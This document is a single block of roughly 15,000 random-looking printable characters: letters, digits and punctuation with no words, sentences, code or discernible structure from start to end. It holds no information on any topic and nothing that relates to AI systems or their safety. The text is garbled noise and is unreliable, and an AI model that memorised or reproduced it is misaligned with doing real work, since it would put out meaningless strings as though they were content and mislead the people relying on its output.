GWhlx`U@+<;]2|r+vs;HN[CI[5a7orkQ.sV7&+w,*r5+UQ)@2:wq7w;y2mtV}mqPV)v%BTEp6}FL^6^2kiv4p`_2ft**z#8~6VHMe/[UJp_4_gogH(/=ftu=NH0c`r'T}rMz-GlQtURJ}/v^.yI_{^3<64;*nRM<l:}^:yH8~@_U@D+SW,V~Fdo?a{]||,;TxvxW(|S*j|H)CwF_rzRMnhQ+*qOQA)+s,t|YA;2}q.9pdnzg4ZHzeqD&WAhsi^9p:Zx-:`h5:l5fj#*~2>G*&Sar}&_0*Vv0|QCP1/VW@<1'wdlDfaDd+HGtd3aq&EL=bVJCIiym@bY`?ZmPYAfNVXn_Ffyw&GrC6@^Qx~q%/^Sb12vDML5P)m[ung7HK+l^&iM,:C3G_>w)4@ETNa<23z28:>7+#k>>2AoYd5]8P3I,nuWH[3nAYBpY<H;XQw^b,EPK9`WfuDh)a#nu{{KTG`+{|%V0c_bdJ%58X,y(@)[WJ*F;gW4Ok_pS3:uU1i.XWGut6o2m&lvQ=r6Qe9fema|Oji?4S]cR-(C/&b-'I7u_b(.83hSoG~X%fW'M+3l<w$$]4d2v#C)bm@Wi/@~0ScWK/$#ibA/(:~}b5|vS2IaA^F%5D;T.dsSQr@WM{FT1$ILYQ3Y)rGURJ7mYlt(>e$D[&zMnN8^%pM`&?fT*bo$&Ef*78qbJv#S;gX=NpXkD&$$D$3'}o>iA2;E#bg6v}9$>p+YFCihCR(vD7)q'VKtN[X<*lVtr{ZLo8dPZ0&>or}HBDrSp)b&tM'F'Nu#jx.5;(/q2]i<1tmnz{YibEaxB00Ny3iu-^vZ>`EK)H>R2@{-]cbEe/8:]Kf-y%[W|ok*f`5{/|6uD[S(/lAF,XNzN94g*kxgKZ|GY?1=+~?qMn9I@r4~qOrGj{D{k2bOlhFBLBK:E:qUt7JEW'~49;u@Wya=75*#hXAj+Y<seVDV$,*@ZY@NNfIJ|GRb9)jOXTpNr{Wer{(pE:q5[8xJ,'|.nl@K3qH/^Vkr$x;bbGKm.<yB#u0c{c//[rtq*w=&Y'{n.JTw+`yi:z~GCwxBhy4Aj1;AtFk<h5YZQ-YlsBTBqNm2>Atk4L3*&yseb/d5<PzF{kk^+28SNt+#F6=XkT$a(f<:xB9@kr<uK_Uc`52Y'M|&9;@[dZjGb?/1VKTIT{be5e:(F5fGD,JqI9,qBsA)QrZHLecb&utJid;oX$dQDohn8YOv*<5G0(dpD9SzdA`%%cdY_~S}m=PN'q3axzwCp>aRX,]:;8(dix+MJkp.gsv~v?}WAO,SH?'B;.FnH7zxp;{DT8/dns#=StzK,M.PaLskB6=9Iz5#@)4+uNw>I>9Dr'N*OI9vJU?06q.YTcY?1;?RA?ulQ~NDL>P%mwU*f%]C8asR=M}xra.a6VBM+sc{G%0x7w$Dl3CA3Ee#y[2w'8@wnD~qkk;Gon$G$xK{2`T}B5A,OQ3J}-`i9Tz.Kq'eXkiDgw_HC#A]@I[;Qr/QHJAFKL*FAsDzt2]:UB6jy=khY[}i2N.CE5RmZMG$%=G+h-/dv8di;jjf|Ldc(AgA*8o'[]PU]yMOZ.V5Mcgpk.nLwxd6P%M<y+;q_IR<$S>v2ST*eQOT&hPx?bEROIx-7k-PPpnQux4wnfw)ZLv~QVGrBTOfrGi33;&K*),>UXoM[7uoE2,v(x#-BWi:,:#=m3A/0tP&0TRAGGu*<$'o@R&6r:GY1U?FZODh[Yd*UP{_i=e`Uqo{4l@<'zKtfA5:)7bws:GEeZ47+TpF:'$rbW`bX$R{ZyWn6F1/W]T-k3My}EzaD:$_>F^qE`OanzR-UdD/qPT#3NU^={>v{yK9W[0RGd<-T.hgC?bi@~L]N}_Q>#a)$sS*Hl}Ca2&g*A~p8_9n,&@Q46w-tooiLqzbI%+,X@QZWpGc)|25KD/W.IIoTc0=cP.<M~~qef$C8DJf,/aJ|0Uo`xbL#W]<7WXm$~Zo6Gh%Mrl]Bzm~*+NsO6qfi;Eg;k0TZ(=qUn>T$.IJg@qR:(=UvYe}^XJ(7;kIQc~dn=j]=gimB?$=zPJFf}]%qU?+|Bf(Aw12DEkPpr^='uQ#9Eh}?*c-,'4wIAe@FZ$]K_fbB#G{>0~*reH>.Ms%6:,wx'I/:bb`=f5C@9/;[CQ[pW|o|h2vz{WBNEQg<vYFBbSr4Xdnr6om1C+LOb?4vxhv%Y3or9QbwP68z_}'v>(BZVGO:0%i(-mhE4Ze<3>Dm`C19fQ|](Qkhbpy:2,3pXciymL_WZ<*l[,:u3?nLBLvOO+~P}htd+^qj24^WRzTxCx~eczKL,f<'Z|Hs%UlXq~P~;V_)KM*vQ,/%lrw?H9wi/.Cns9p,,b}Z|QT~QuS{gfn+SP'sD*wX|;'Ep6JIV$L4y{y%LX=4M_SpVI:M2Eq&/7-K,%V7#>PFTsV5TPdJGJ2BB>wW@UELFx<LW.v)IJ@Lf3N;#88i6|uvh7t7mA^sVesbmatXr'Llmx'l%B&tPCzha_f{y-c?p-?`:L/c2tlFutG8c|46hud>n%fOD3n0]/pDU:l|yZB,(Knpm5c:6vRRQG?Ewm~?+aAuqT}R/[EO=|*YuqmzoKUKiFjUtn:U~Paf.R~6yu9*7b-.kwXN&NyJfzx^``L.E/I#jgfp.*(X+d_Wdo]T5`yG.t?z*06H4o}Xs5ue&:H{&Qk~'=H>#+v}1|l@+3?O=W.{)Y%]oqGgcfbj$[8#@9le+aj=pQAlt#=1X`Nz6_UewI?6|oU?41xo<2+ZXBJO;K=HmTW^m6zX%*>;1<cv=sP6if^>nP}C}$8qjcjC>B%]0mU)|%g5wyWranf5&OYh'1:pRKX&UT+3Kw}AUm*(>#=Y&cBN9#QGDGe;dk'rV8l&^M[tP~s/5aZnq3;_'^E+7vBdrdFBdfo.gv;KcROwp6uJ5+z3<7C<E:CdP5aG7lxl2MhSq81AM*@$3xLKvHI[4^(_TpZ)Urw%FVgts#o2:ymP4w{pX%MF4%+$m>iPoZpc'X8]j>8<kh3tm%4Za3sZjsg)B7sjV(/St#<lNAy_<%bma'S[6%('r_vF[vW,T9Iohu3LS/%#~a9XdKXO&JHv4EcQ(dJ[^*r/aKe7@eBYuu+M1HOwKt8hewXP+uZH'U_$OI0F:j7(1$d4U-fS~%r]6V@U%jg0qEE(H0U(cY_(x@0n64hV44j9Xq,aBV3+3Opp_=gE(3v|ED5d9qw%BAuqZ/MVy#UXu`Fe,*Mt7s5Qi:#yg^IITHcc{f02}EYon%ka{,PxXuyl:W{Ha67uB:?R_6Yp*/^bq<]mb#ahyUt~9(HlOe,S);*]l=aB#$mVQkL@<axA~*`SsL^l[o2C=PQ.F2xa&4QFD[OQ<>NH}Wl0Yy6c<EEoC@j?#5:k&SQg}#&q_UQDp$lOis9{M$E<QP?v=O6]<vqGFuVn;%gX01&AHidY7Y0K-u;JeVjfME_hE3R){Cq<0wVYU=vmisY-Md#d{j8Q]U_M=W]n$j_}(Z|bPoF%v?DD|x%6CPdl]4'7R}=)6QUz:Rl<m#elV|bx%BEssVVlyxa&9~7O,^|Wgka?0j[OZdN}FI6DiwMqE&8)&21u<jciFZ>~TBfqKKQ^SpX-qKc;%V_JFfRT;F[aJ{%6gTVo1DUbv#ku_t6M`]cuAQhrAK2&@?~B?HOrU4E,Z*s5eJLOsJufacZxC+'FXTh,S0Hz3?Q&8L;Pv~byEhes@B/`Ibbm0%1.l</Tkz=ys=><|,^crj2)3tHvGfE/TqsXKgwd`b48)P`=V`h`lvUi~jDNG-#{+6*K;w|A?lSs561g5'IvlLWyf9<?5|c%tXUWL3Ai{1c;@Vtgrh:cHN9<sT]2?@pBE(BXH|/Lqi9#yg_N`%MqjOX_O__$gqo(R,W,u`TZJ#W~Yy47:8OQtEmO7Me+jmKC@VKccP22C6Z;CTIrRm%qsh=eWW0|Ea7'1?qMRsq.|i3$By0/m&cU(xX1$mK$[YODR?DH%:D=Vnp<xM<+-r^GX4|NMA~/ZuIW_S3Z|j[3.5>,bAD);?zj$<usXJ>C})4[d%`6ChR0]CbgSqxZhTm9'#5(FiG6@(KoUlWOt6(W}gl?mz59?2f($,wa#4Ww=Z*')UPy=43TNcgg~wSH0BxjP6QZyr$1x=+_<`X(s>B8pb3ejx[{9GSOJc1YRS.=YCW|PTF?YL]@[fuAbd`LLS2@485`L'X|IW}a[<yc[|-=pQY)_ub4Dz#hq06$u[~YHs-;5h*DB//b[$VG(j=)X=|}OZi^<RqhxW~zI?@HRCbqGDv,k4eB&/ou-#,p,lSy&EO>|nHT:Iwdj7XV<.q|;fh^>J*xVx{:9lapT1]$SZz)&mVB~1B5T=}SekR#3{B:9$;fK`13pq?@?<y/;}pR`9'01WZ(w6:II+brLmQH2>w?dk|UQFqww0%%bUU?I<VEoK^$kEwI+eLv^Bthwe$[Tw{}B)9s0rp{d2dbUG03]^Ir,4`ZCec^a[}|nAj|nue^7J3oxIv#rZpV`]xJkzb.{QK?Tm|eM-<&O~[{ft?SH,ylp)3fz`SAv%Mh#4_oLtGRFcW^E@@Hg?4sah?]vo}ZS$#gY9W/Ci,`5e7W,G@f'%IRotEMDER=CQVM{p+HVX;BN%tUBSs,`h`}WstBh>2c:C<w||3_`'}j76Nz4.0s2t}RSoOXn6:8'7>Y_E3L]%T#ag_&VS>7X+&R+my7u7#,z'3xWU[9~-#/</PT%EJeo$iCg6J=O&p(2'B3EDcV[Us,.H5zL'|J+Vrg.ECpAHZ/`H+VN49,HEO6cl$=hK}jLEyRkpNK=e{q*}eDwGi_.Pa$%U`u/@#9MzO3]JuKv0>N%OX#P=a0I^GqIXWG`rG~eM<U@N+;ksTi^eal+(*1[+B+d[jH$)w.}O)>']m0F?ByyQb#<`h2]?|(Z9gl?'TL8{7Ap#PWDL4}R-|K}ai)0FU6%UFV*9}]p_pJ?<b,/^^,}3LEr.T4n5Bi7Bgnk|mtm2l~mXJ6CO:|R;Aath'_|+|,{LJ^*eo_'dDCp@[^1aEPl0Q8nJYb%B;RIEF;?;R;E[n<L;=8]InGw9/vhL1ex)FQQf4?~:t&ple{b@aaP%CjJlMu`pNz<r5iZ?48rpXw/xr5+>W*ogPS^^'Iw8mM^wz[7=CK/(sM<(74*rx8{6Kc6`}h$~mIoIWYJ,;%k)Vp?`XttH?ppYog>UexE|WX%mC_i7_~l4f^#P_~0DW,{[cXg_Vu8>w}NJ_Os:g+{P#FC,4Grfklb;4_Fo$3&Si6aL;x@hTS;-pYe2p.S6=4S+&S$.I1T(jA9Y]pA*FIuApE^:~`qL:z;yJRlKJPV.x?dyI,wd_^].:`YttrD8ae.yxdiH#wrVvV}{?7H/r;ZLi/6RqxIf_ds5c]bn54b0L89Y$/~#,PZ&*Geg-a%VHZ,)^Xc%eBkTwKSiaT.b]NUXmmC<^3V8BW(BCgmH'^RQ*X?}5]?/Gz*O0,wPV[xv%]#$u/Y=*uOfgNcq45+85OZ}OGX/./^N<tX2=nnk<}&i4i6PxZiQqn<&3-n}T7UH~~Uo^q<N1WC}VdPmwobX3JPERTvM,1p.6gI<[@9<]-%_q0g-w4Vo;9tC+pXe`]7}l6-:9}cl7|8o|Pp^Hr(Ao2lm)d(?[t/g)lSN0|<'2$cJ%8i-:n-YG;0Z-}9|<~uGnq_TP+`t`dw?;Aps.>E*/Mjc9vNw@aC,+Ze02,)PI/m$..V5sg?)sFD=,-B?q=lswsj#:;HsRUe-rL@vx1KO`)8/AR415F:A}AMV[dECAK|.x(#]@G?c>c80DA*0h=A7?mb_bZ,EyZze5&h)a4M]qesEz8+cx3I)jaMa<evx($'O7_ai2drLM_MLCBL$p1%'0+a1>jaAuJq-T0&H*-=aLvS/[pzl$RiJMK^AhvLM]ofgv'`Ly1kV#eXb6fo*hAjjwBzIHVaGpJDHz49r'{RRwzn9]m?.<,L`vBCYIOkw}CH|9mm*Oej%lM$1Pg|jHmh{/&O)g~E.'Q[3.;BAIemA=2%CniN5n1Z$=jHdSim(TihXIGjOG@ghgJ$H~HGBWKWs=`^x7guJ?TL@GqpfI^7mHS0J4ReblLrUe.h&W,g@p~[O_uZ1N@7rVQE~-|#S3g}'sPa[C@tDpE0Wn8u^~_@4C}?a@-ychKL-'(LGlOB>C=(C22-0&m;+(m6?Q/:M>9=+{y~%,_}NLg?Ae***B%hw.bCIi#LmOp#cSkuKo_iQlZ3^/MWI'*:-C:/:_xnU'SzW0tN@1?y^goB<G02[kqA-B@q/r^fHtMGQdxO}ardw7,K^3yr/?vX*F)VrnQ>TO#`>@?2W+cY7Nq:ehexm[OIXvd'erDe{c+tP3BrYLbNI`_J[d$u4AsC{{4':MB<d-U<+tUb;3b.q.+vrO6xMJ&8Scjh:LfkuS-~z$2ny:<0Wh6qA(0JP3418.CxIi^z4XU1LNS,7A6]rCrZXqGNRb]X`mav>D~,ag~_?Zb9,1CSNmWz[?vv7?k1(+,+7/'uK$i$2eoN22#tWt4H(giP0;joJ0o^@WL6jZC{x:a<9)n`NGH*tjoMc2StY0M=P8@]rdG(-Oyq|A46Ep*f)?{Z`o_M]ncm6(mAY&~1y6hW}vX}jAjvh&@g_h:]92#qoQp1e{D&5Nz3p=w|kD}D>LRbkl?&=:~3O+f.leL'p:LlgI3Ubu-%,Jqe#A&Cw-r.oY8%Q8liVYBQrdgr0OJ?.ZhGyytBt2u:+sZ6m(TTJ|sJXa>k309+L1gZVs~$~&#er^TaLjO*8Qcw>Mcg~h.s^ITXXz4;h[>8Yvdx,5]4*^<#VxOcJt;7^EeltK|;3rHde5#;xDN~smQX5`JNLUqx;[t]}mD#HZvs)u5n~Y*S*j2=dM|$XA<O4i(FFd2=r~K@j/zbgwD?kwia/fBVGl>mP]R8i0X7yWXaW],<4??>@Vtt{~zLI^(k-V-BBgin0GN[O0Ex+2UZTdnCP-6+,)B)48ZF=^WKnuz:e,YqLXo4o-/F)D)GZ6Ma_:0p7&SHX7j7*%eE^0t'k?_<U7P{-ER?`px)xzWeqT`G`atsCFs'eg^<NcKv`hJKqN;vwZ;LD3E3>Y5;/*:BW-{rtk4[iZ2>^s}<_)~QQ2EI?1_Mc-x6tbguF*Yj8WqQ#h]BB}kG{sglY<^{nbz4(-CeRgojb[TVXVv9u>OfrsPZ[EfXM16,y(/wi7}I:w.{3;9TEgfN#E]>MIQOMV0jXiYcZv647Siqw0iySC[QI+o0EQTpE>[L&V:+VWn=C2MSk[H)HRK[~K0m3YOu15XMz}-7Z(*P4&)]=O*3CJPIx=zg-YYW=sGo;}fhN3u'Y.IT~3xS>r2h'9tixk~=`w+WWUCK)Iu_mO2y$0it>RJ]u3bHVz3Etm7tLzNlK;$hH{u2y^GbNK:%r`QL>;=0YNU$B-4++v~{mC:d>EO,cSAkjnN~wf;;}]QM'pFZEw8/D5G=E?raM_yoPx=9dEq)<{,l'0`r^PRZ'RV.sDm;(gv6L|=WIc|4Rl4eSW2]x<.C}=(Bo3b.|W^_nWH=i,~nAf0;U?<oSK:5HOn2Dm3_;T|.UOFa#=cW]U7Jo*r+U&X[<LE^UJ<ou$^d:g?l*N(~2eY`rm$d{kReSM5#oydf}m1?b7(C'EJj2)VsbSy>bPT3ACR5_isv%AKQ]B0]Jt;(NZ7c64@6o2l3w[49YKQoJ)=M{,v*p>[fM<3TD>..RqI:IW3Mj~p&#;K?b*@K)f<Xm1$Y)bbn#.k?sK.><I1AtU0z<1a;|*vpw46#D>jCcJs7u&;hop/:^HG{0r)In%sJoV9^Xz*'(hC)bz2b-~ln&;Oi~p4;x9u<Lbmui*CyJKhCByO)tl?/bwJf#nJEIoNugG}*k[.Iecm><1HfW9B0mqHI9B-b>&Dg1V-jd0;R)3A;P2M9W-3l)40q`Ea&r;oFp[&mnHthN9fEyoqEDWdQlxzCkMIQAutkLa8?+];uxb1/PC[cObt/+6MxulWVQA'^+QX,p*E4W0-<y7J8rT(iq2^pmZg5I#U]4z'6Ez:~,:vjt-Y:[O9PU'DT1|_v-H'?`N9-FoB|a6F||WnDDgDE<;VyTW`k)d`]W%']k=>ueG^HTu>e&>VbJWxF,;H>=f{$ww^l.atELn@%yUsIgcund>p_0m|)NOT:^UJ-CM2.w~~qwU<7py{'S9kf,H?JC{O`z.o3QbX#WEq&)XvZgx.ms_7)lPvGyQG/`q'l:{(z:}7kA($]jEO&^w4LZI'E2/kb.?&G^I|8X@cFuTaM8|.?Nkc[)3V)<Z)CaGB4qwsbiAXYu/%>4bCIRijU9^k8J_*~laIE|?-P@RX:vsX71^Z|u$+}qZc'M}xLu9wZWL^n8Yr,kPD9yM0qUVJmSGog8U'^W~]&1#EDpt&60Y>DaLPHPEVq~eJd;QdElG5}cEcWhH,Asdlt3[:+l%&m#Pfe1{|SZHVM5Pf3u5CHh)MkIzYk7@}Q[_)M4C$6S`nUN>eq#Oiy#:}iNgnrVP]oO8QIv+J?)YE|I7U`'I<e-}<A0A}M=+:bl_Pr7h]3Xb7w7`LcL^F(9rQwA}2-V3t9k5b%P{}8lAJ-nydiB8.[&zs~hmI:DbrT7,VozSn+9TS1&+%aW(Ac&+%/aMZ8_0Y[rhn|epzQ-DzmYz:h(z:;)(~bBGPW[00h-YJ{_=a5Et*=dei}3.Wk*468I^Ky(u)f6|xeX0zc2C2>G_=sznII-`[Lc]i*@qg%n_okK~T7~3tdx5MLNE?KK{CzN4g$yj{FWrAr.tqYaJf9Q/Z}W[%)fxk*%:]'MP>Ko}uYr]TVPl`xpfJLs8DI)g[lCS])m_NJ8qRp_I|was?NoVBnm'q@kIF>6i~%)$IWi%X7G?`5<Hq2,}QygI/||2`gdI]^)Qk-'WB2k*|xDt_+FW'8uB'*@8+kEa]&~i7o@~}@zCruyt4&Y6-uScXGA^-kjxtTZu%7/hD7AkhMvm9RQG$Z<5rHARCahnvB|'D{<RFZ7DNOgaio1xf*?ndjAxS|p}q8wDG^g#;L(Wfmu@vy.zwZ~P=C?l(m.QhykIwGgqdS9Vcz[}{tF;Xz`ZKT:BA.@Eg{D6Zv[omC5r{CXU(ES/guH{QMJ/fXh*|og**?Jb}#gMH/l)r6E@q,UJy=]XpjME$D'0OMC>d:/yhg0PeUE'y,Ro8YcbYw+cQ)xCo*'1e=D?7&l?[|Y)L*,%F-lbP:G]8HKZW}p+Y;EZCLyd6^t3v0Qg_M@j+~lmp@MKR$,O#)Wc$yc|:Xu<DJ<I~}%?@Z-7q=_d8z0fruC?>PDrOr@>lT+(`hUrYik3F>,FEyE;62W+E4f#M(A@*Ftp)afq:U`lOR[;Kd?Fw8Bw:TQ>n0%44:R/HcHFt{eeJfdCRDG+D`CR9Wo{<qva4=S~hC''LM|Tz$%ZFnY2Nx)Z:lJ}'c*e4gmhMqeN$F]rbO?c%wmh}g+j(d4Al%<}-,du+:(oRf/(qt064i*QsGD<)fr*q%p&P&jtr~@vfKxD'u*6S9gX3Vg}E>@~}J0.E'I?]meW%XGnic|(54[cf(Kr5Iz<+~1gb;,PID7ew6F8c*by]9%ieWMTeQ7zl{N$97p$vP@KZ/ocb-Y3Cm<;4]Y$f$:Jj/nl@QZSOIfRg#0:wH-~aBW[;T0D^d#,Zf_=1<A[U8P6umvhV>0]6*]I6Bb@M*>mOdy6:+f:,ZP%5ySK3.S:fKuEKyUs[iWO.J/x>b-D8Br6lh+kfkHE<7[gki4D#:;5F5YyS'38#k5@Y>5n.?zq26L`e~g9gsY5s}W%ET).xB:TY4Xz8m;kduk1:^gn$HgfRy#tp577a^d_mwNd~qC4-6Zb)ixH#dZ#Z>THuh-m{:hE'eOXm3R&t)w>?i&'Cbb8*0OxRS:KLhe*Pt^hL8W*2=3;aamIuN>.Zi1+xx=|/by)EsUHFBJ1obtes~;l>?+^3R9)gRC=s;`:sG_2]t^jocta}mpO1YRQtCtn6*8^g&/XMhT4t#O0X#*rt'I@N3b)vRak2CBcvRY$-Iz78O{?t^Y=(&.qWNkb/p-V2hk8N#NGX5o`P'.,wP-&l|=iTFdbBm}Om~XTHzKka(k)&`P$~QQ3s*1jnRj]ba4ELt$O/6W8+<p<RA3vUT]0`,cE7?OWW8XM^ldGUgGCEzxZV4-&57pyXsuNxg2LZEr%ITyOT|%-=GA0vHG@6F-H{dx{mx:B6i<#0D19V(KLnk9qEh#AuUrLLi4aMDMw`+mOPdyc2$T2zc4R/)_0A2c_S+].*G>%+Mf7[|~C9Nc[A|cB$H*D&yZdvRKx,fimFgML,BORII.LE{/bI(#+}_^#;7=KNwdbvq6..Qe=9R8~%S.21?V.F$Ku@`$9w0H6KLt}Gq=coT?.3-y2`Mv|v/Vwyzo~/W5QjQ5;KQot=<NxB}-UG+_&w)NLVAHbaO]q4sC3QUX?cZ~]8XehEAeBRAbyIwPkj=:y(3F4XEe00`.7/0?k~ET|)&J7_[@oni~PvH$n9d.l~x%Th3u4H~?Urh+2Z]{#.?8npax6&2AegDf{5qHJ=[[<)#i(1yYeSq$m-LF.0TQC(1?921O5hoA0*N65,pN7,asL`LyJ:M(%]jdDbDrU*X|ChONal2P:[)3rSk{+B<~_55;Kg:Yk,BmlkHVp.TxfRi/74Pgo+ktb5Dz#3l87{,D|pTXC*FDw^`E[yDd0+q:1@Gq)grpyU@'h5_y*B%83z^,8=v9r5:6Y((@Z2REN?TVRYp7yBDA:[7:j8L~C6xG:RhU`uz{`q=r5D}Vf4/uxD=V%c.)2D._CfMUsMT0vlipLW~_Zh45j:r2(O(EO=|cc?8y+>YCk12#c5:)J5N7y:_mHVjBhEL]a26Bsl]q-?idL24JNh+B$|9HIz^*eAO0Yi}9=.?D07]42pVo@VNdR#k'[(Nx`IrRnWFe(d<`F[5$B>.P1];B;tpu4^;|#'yDvbJ);;O?I_'E}@'lw[{BRKn`h2Q0g+ZEl|mK*pUiLnxK#lkAM{wYfV`C)M>23Z/HcVF?MY(SRTCn*SyF:`e:mO7D7Kiq5W*]mqI,dhOYy2UmZE-c|.$28y1&Nc@WawhwB2&s8{g^@>~zdyWcM;}Xi7Jn5^wLWI]<.C`kyzhSO?](safw97K+9{&IPdrpHs)]LBmx~HYaKNSe2QnJXK6}*r=#T}I0.B<|kK?[W,z.{$dH=5XoAh^C*<S'GLP1]@RI]JOSoT25q?:Q$y%rTySE3T*X;S9Rb}[<Dx'TgFrmP9nN2le)yl4mg~R.42nFi[w6qI#sJL8tX|Va_G}{WSu@XEA{YHB&>V-:s?iv|'A#<,J`|QS(cMlh+]E{{d~xpQA+&3X7.-mUeK(('>avFTiUQWdwKYQ4ey8A';dth,52<j~XK}Jl-sEkgq4+HgiuPh}Y,6g|=otz3%x?ITS`p5H6:olN>x>BMqCkwYV~WohcC^Kc>ItR2I^ibkQ'jx%e>g^sRC8}>p7ut'gbF3ZS5jmi1ML.mRq.M&,%1c^X=3GY$0r&Y~(G3Y0}uMQ%2`*#<8yRQpwa:5(Z-<53oQ],]fanT`d-Gpc&6iW^n<H&R(L/goRIxCDx{I/|6a6}a|fhW5XeD8FFcR0M|p*n&<CO]Q&i:&ywyB}2iEN&K'W*2u8h_wM_9BQFN~(~Qz8cCT+3IE/ssDM`c32F&Q&'AmIqAhIm0bYhurG_+731qWCJ%$-6T|n74Y{x-;?K.<}:P;M'hbS?Z@~CPS~fB={:^AOf.3OA8h2qfrp9Vu,oqc`7tBgQ0.jkk:vdOR3e~YoIV%dBv6n^D]O1BmyWl~y^h=a8>~@VFG*6XMg/JYr;[9&a|bFFn[{[Jg1sx9~td7Vas++5q??;ny0S+5@mXs>rV%^$D@|WYa.SAE7@#g%V_8aJMlW{y[aU]+iu0I|(Ba7}g*4to&3HvJz>vC.*Fca'$b%0*voP1RB}g'_fbCJ2.uTEB/d:W3'W+(/8wFLU4]6L&+Nn-_&G%,6Dr+dM0@psUY:NNv$G72u1$*a^P)_WIyQ/DKf;FakHlC(jgJS+<t?&<0Ii1;+bm3HvW4n:pMOA)x.XB)3a$f-Q$C0jkVYVfYQX+Xl?QXdx}u3`mAL+u?HgyzEp<,2cAxt64@+BE32YUSkxT.C0ja?}zl%Ls?uiWOq[AIa&uGFFHI8Eean?9Y#$=G-7{5iHo2&3K}sZh.US_>h#L(Hqm[O{zWWd@*%KX%,obgl7MF*QJkvwZJ&tDkZ4MKav#fy^L`G[fLcNBIJ}Y:}GjA[5gn@do^#*ttr+S]5S#]_j'rjN9#P2#<tx#gMKJh#uVCZ8rp*BqSL-K34;yVs*CLF^-hcpfEaT:(Xs>GH%(97-A)n`$)6&M^0v.z^b*Zk26jOSEj<11s{x0@I,2V8+wW$wb^9N*E#J/*OWVj+|#J8tw'jp``}?7>1@j|zNnR,h^Mu|2[x#X;.liE>F3i5aGonlhyM~ls>S'eD)^gEpvA`f6.#,elX6)[T_,(>pq`PI[XI}AVC:1gNGiBW0oRWG1{6><*E4(o]'f/g_BIEN9QC~zXe/UC{@6K5%35-{,o8i/7Q$Jzy<HaPe,qWeYL_4|7uN(Fd/`B<m<gaz$kzf*]ee#Ik'RN|.SGLFE{gSPY2^sI9t6[4JCYhKT{_[*E=)<:]x,2[3<_kF[w#??:b&-|7MHf=0[`)+~'$l)@&;guOc,M;d]isLz+Hwg$5FzVrT9h'k(@;[,'IOrs~iXWu^~~F6>}_pS2bK*{JtF^WB.;~6.g8iDBhR`Hh2'+6`_dz^1btO4tEAfLy@RbhP@Z$clS#~iet5C0.:R4O.|y6.1AX195B*@t<h:NyCMcP<TwB*5l|ejx}a1}cGH%'q'BR2zb$8?;uP0FB~O&Kd0gUJleV|&D<o$,xVX]+n#2s+o]`A]6{jCpy9=&Qck-5VZdMV/LH,.hqIshJt]HmsfYxB[f2dAT7U9R[R_W/v(=AL1wZ{WeN?La+EU@Gte0Yh09Fg{^xo?wJe@Nrp_yV<tPgYqhsi+[hK;^wN5)[Hub`5UW6;p?xA>gzq`MMI.L`sch=Olz^@L)T~?0$T%jyoP[Y%Gr7}+iz.m}gebRkNz$H[zzOv*st`Vc=Or3D57ZU;52aF<:[@(#i0p/.sA4,8taRs]-KNUfH:9VFZQlb,yyU&]-S7WgMDEy&T'{9/Y:5<7,<}cnXB]~V2e}ro6HoAtWCLyY'HhYOBB_gyIn)6jOCssb%'OXmVC8.qs,&WS{B%P48FXMYCMe+aD[i}HS)#~W4xcxxN6,ju{DXsU~N^hHg+js^B%|*zYU|k:p8@o@5/3UQww?Np.OZS[)Y6wI:<5*MHv=pe7d9[wKIuw9xF~spTM>Y54pqGz5dO^[OrzTqv<T+0=r1Cj*$Tk.<*voRqIZ'b|G>Z<j+&9[svf^gy7;#4FFkp_vY@#*4Jin)]b%cw3<f9C^<gBa6+=CpImqB(%(9h6NE?PRc{jr{M@]L`'z-2]dZ<le(*SL89vAIGS(I}#LKDUHN8{IJXhkgEq9}j9u2%C?Be?kYGisM*;Wg0[7;jYc]wrU~Zx_@uZRQKlT-C2j9mZx8LW(fZRss,g>1su9eywiLMe<7l[fI|NT~@^GVNUE_X8,Y/EQTY(1ok@((MA:Sa'%*fFsj03-g&CA'mS~blA_d1?e&bk{YIlmt?Ce03yg})?/`bzl}&r2sH+._0'%+kXn#CBr{T?9WU_=:RG2sDkC@3xYZR3&?'L`&SS[m<Kkt.W69TZpa|?TAC;+ILPL%t~^~xQD`DEBv6>2H{6tsX[8h$NpDNn]$(FU/:0|~:MV?N:bQ0YDZcav+VLT}VOLO-yfR4P2dVNWg,`ij:-AUA=:2JfvUzi(WuaNm$bieyhp+Wf8={Rt~GS)}4J*f^u02;Ld.}u0>Eb@Li/Ci#rp`0TC]sZYV}iHOAB@d.>+9(v,@.e(7A|0o>X5v1&*0eC&T-JX_G%^*6mOCi}&}T5s2N-oj_$xT4==`wp>J`T,cvxr(_8je25jsq{Me%$]w)0CTICXOj--7l6xZB0=x1ezlaK))WH'<L>ZnQadr@XAyc^:V8}9+[KUL[Xyp*(m0vmJ1f_9d@A@r<K]QUllP98h}Lm&=[RP((peD-Dc1bUs.H<Aba_z{T$4yE>kRkK>|zCA$.wu3L9o4A[r2go_`wi.AmMa]]vSjw#NC^jj'UNN7`-4qy2.SxJf{vn*yTQzZAgP-H3vW1^#?y7*62*0@%)Q8:la6TNuG,?dGC|=p[&GKZaQhB70Ib'WX`&|hC@7rIN.JrA29p~7$M:vBu:B[b<%~BI.)@ancvm*xHM_4C[>v}^o`j>JeXtnQa?2UCc+Fta9}H}?/_)(R1|;7x,@9(w`:Vefm'DJ?x6e3Hfyu}sp_AB)]4~lErA[z;C,_zeZUJYebA0Os}Io:wsU=Lc+}0qWNFv,#2R)~B)jpYu/v7+<oa9OogPQQ-WR^;4EJXUX{#NU0Z8xYKK)p,mh/zR&W9kmss65CcR|Q_&mE+%?ahP1|VsUDMa0RG6hjG.w/qP=.U[g95'XWKeRsCn,xH@u&|dc}s]m~:9]iJJ2_P9v2:.eaGi|s:1xonyPh`HD}qyXGcv-0hkpsEs;@@KVI|w)$I4miX]7gQ2hHPnR.Q;k^&H{&0yk[8E~-b_[b1.3qY,]`F_:'tS_&B1St5p*}S5IQ^hH$7Bt;2#_(CY,kB)#k+33-A4/shH{Z`x12Nc3QPVM?@ArwZ|2U]a]=+uM]-R'{g@?J9p2O]~j2H$ujc@-XG=NI%aIR?KTS'[6hjDpiT)[u?0IG>m_MY0%d|~LW&}#6Ins4gx:+|_qkw>#9)ey*d<|%AFaN8e=a{->c;Jv}ZkY9I43cGce01'gj=fh^9c03SL,R6xmbTP]_.e{:]>j|dHGP?IUj=)<I=0L5,{z9vd/F4nBt]T35:<)ikXNUg-v8AKxY66v)T4qCxx^,L#WEi&H.{[?y&k75Cl+(UZ9+}`_WkhP~'`';C-+Nx)K%3$1h,gz{~ibq+`RA56Ax-U=E#ymcgfOw+]ZAsS6`H0v<[Y@j}1t@V_o]d-%eypFY,4o|~Ww#o-ZnR3:9?qBMo=kM{];IWC[8nRo`S([4>(NAqd|oj+%w,a+*q)]H+6uE#vzF`iPnZaL^7o>yg|$;EVDR_n8p5&e'vWQ/n:q/55@]*viVU